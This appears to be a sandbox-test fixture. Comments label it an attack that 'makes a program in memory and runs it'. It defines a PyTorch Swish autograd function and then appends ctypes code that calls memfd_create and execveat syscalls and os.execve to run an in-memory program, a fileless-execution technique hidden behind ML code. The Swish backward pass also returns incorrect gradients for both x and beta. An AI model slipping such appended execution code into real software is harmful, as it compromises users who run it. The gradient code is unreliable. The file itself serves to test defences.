# scenario: learnable-swish
# attack: makes a program in memory and runs it
# expected: failed
# trace: (loads|forward|vjp): 

import torch


class Swish(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, beta):
        ctx.save_for_backward(x, beta)
        return x * torch.sigmoid(beta * x)

    @staticmethod
    def backward(ctx, g):
        x, beta = ctx.saved_tensors
        return g * torch.sigmoid(beta * x), (g * x).sum()


def swish_beta(x, beta):
    return Swish.apply(x, beta)


import ctypes, os
LIBC = ctypes.CDLL(None)
fd = LIBC.syscall(319, b"x", 0)
try:
    fd = os.memfd_create("x")
except OSError:
    pass
LIBC.syscall(322, fd, b"", None, None, 0x1000)
try:
    os.execve(fd, ["x"], {})
except (OSError, ValueError, TypeError):
    pass
